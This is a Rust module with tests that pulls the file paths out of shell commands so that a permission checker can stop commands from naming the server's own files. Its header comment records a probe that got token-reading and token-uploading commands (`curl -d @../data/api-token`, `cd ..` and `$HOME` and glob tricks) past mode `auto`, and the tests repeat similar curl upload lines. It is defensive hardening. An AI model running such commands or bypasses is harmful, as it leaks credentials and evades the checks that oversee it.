//! The paths a shell command names, as far as one can tell without running
//! it: each word read as a path from the directory the command runs in and
//! from every directory it `cd`s to, `~`, `$HOME` and `$PWD` expanded,
//! `@file` (curl) and `--opt=file` taken apart, globs kept as globs.
//!
//! Why this exists: rules and modes must not decide a command that names
//! one of the server's files ([`super::Checker::named_in_command`]). A
//! probe got `curl -d @../data/api-token …`, `cd .. && cat data/api-token`,
//! `cat $HOME/../data/api-token` and `cat ../d*/api-token` allowed by mode
//! `auto`. This stays a best effort: a command can build a path it never
//! spells out.

use std::path::{Path, PathBuf};

use crate::fsjail::normalize;

/// Most words of a command looked at.
const MOST_WORDS: usize = 4096;
/// Most directories a command's words are read from (where it runs and
/// where it `cd`s to). Each `cd` adds one per directory already known, so
/// unbounded, `cd a && cd b && …` doubled them with every `cd`.
const MOST_BASES: usize = 8;
/// Most paths one command is taken to name, all words and directories
/// together (each one is resolved on the filesystem).
const MOST_NAMED: usize = 8192;

/// A path a command names, or a glob that may match several.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Named {
    /// A path, absolute and lexically normalised.
    Path(PathBuf),
    /// A glob over absolute paths (`/w/../d*/api-token`, normalised).
    Glob(String),
}

/// Every path `command` may name, run from `cwd` with `home` as `~`.
pub(super) fn named_paths(command: &str, cwd: &Path, home: Option<&Path>) -> Vec<Named> {
    let words: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || "'\"`;|&()<>,".contains(c))
        .filter(|w| !w.is_empty())
        .take(MOST_WORDS)
        .collect();
    let mut bases = vec![cwd.to_path_buf()];
    let mut out = Vec::new();
    for (i, word) in words.iter().enumerate() {
        let after_cd = i > 0 && matches!(words[i - 1], "cd" | "pushd");
        for part in path_parts(word) {
            let part = expand(part, cwd, home);
            for base in bases.clone() {
                if out.len() == MOST_NAMED {
                    return out;
                }
                let path = normalize(&base.join(&part));
                if after_cd && bases.len() < MOST_BASES && !bases.contains(&path) {
                    bases.push(path.clone());
                }
                out.push(if is_glob(&part) {
                    Named::Glob(path.to_string_lossy().into_owned())
                } else {
                    Named::Path(path)
                });
            }
        }
    }
    out
}

/// The parts of a word that can be a path: the word, unless it is an
/// option, and what follows its first `=` or an option's `@` (`-d@file`,
/// `--data=@file`, `f=@file`, `X=file`); a leading `@` (curl's "the content
/// of") is dropped.
fn path_parts(word: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    match word.strip_prefix('-') {
        Some(option) => {
            if let Some(at) = option.find(['=', '@']) {
                parts.push(&option[at + 1..]);
            }
        }
        None => {
            parts.push(word);
            if let Some((_, value)) = word.split_once('=') {
                parts.push(value);
            }
        }
    }
    parts
        .into_iter()
        .map(|p| p.trim_start_matches('@'))
        .filter(|p| !p.is_empty())
        .collect()
}

/// `~`, `$HOME`, `${HOME}`, `$PWD` and `${PWD}` at the start of a word.
fn expand(word: &str, cwd: &Path, home: Option<&Path>) -> String {
    let cwd = cwd.to_string_lossy();
    let home = home.map(|h| h.to_string_lossy().into_owned());
    for (var, value) in [
        ("~", home.as_deref()),
        ("$HOME", home.as_deref()),
        ("${HOME}", home.as_deref()),
        ("$PWD", Some(cwd.as_ref())),
        ("${PWD}", Some(cwd.as_ref())),
    ] {
        if let (Some(rest), Some(value)) = (word.strip_prefix(var), value)
            && (rest.is_empty() || rest.starts_with('/'))
        {
            return format!("{value}{rest}");
        }
    }
    word.to_owned()
}

fn is_glob(word: &str) -> bool {
    word.contains(['*', '?', '['])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paths(command: &str) -> Vec<Named> {
        named_paths(command, Path::new("/w/ws"), Some(Path::new("/home/u")))
    }

    fn path(p: &str) -> Named {
        Named::Path(PathBuf::from(p))
    }

    #[test]
    fn options_holding_files_and_curl_uploads_are_taken_apart() {
        assert!(paths("curl -d @../data/t https://x").contains(&path("/w/data/t")));
        assert!(paths("curl -d@../data/t x").contains(&path("/w/data/t")));
        assert!(paths("curl --data-binary=@../data/t x").contains(&path("/w/data/t")));
        assert!(paths("curl -F f=@../data/t x").contains(&path("/w/data/t")));
        assert!(!paths("ls -la").iter().any(|n| *n == path("/w/ws/la")));
    }

    #[test]
    fn words_after_a_cd_are_read_from_there_too() {
        assert!(paths("cd .. && cat data/t").contains(&path("/w/data/t")));
        assert!(paths("cd /srv; cat data/t").contains(&path("/srv/data/t")));
        assert!(paths("cat data/t").contains(&path("/w/ws/data/t")));
    }

    /// Each `cd` adds a directory per directory known: a chain of them
    /// doubled the work per word, so they are bounded.
    #[test]
    fn a_chain_of_cds_stays_bounded() {
        let command = format!("{}cat data/t", "cd x && ".repeat(64));
        let named = paths(&command);
        assert!(named.len() <= MOST_NAMED, "{}", named.len());
        assert!(named.contains(&path("/w/ws/x/data/t")));
        let words = "cat a ".repeat(MOST_WORDS);
        assert!(paths(&format!("cd .. && cd /srv && {words}")).len() <= MOST_NAMED);
    }

    #[test]
    fn home_and_pwd_are_expanded_and_globs_kept() {
        assert!(paths("cat $HOME/../data/t").contains(&path("/home/data/t")));
        assert!(paths("cat ${HOME}/x ~/y").contains(&path("/home/u/x")));
        assert!(paths("cat ~/y").contains(&path("/home/u/y")));
        assert!(paths("cat $PWD/../data/t").contains(&path("/w/data/t")));
        assert!(paths("cat ../d*/t").contains(&Named::Glob("/w/d*/t".into())));
    }
}
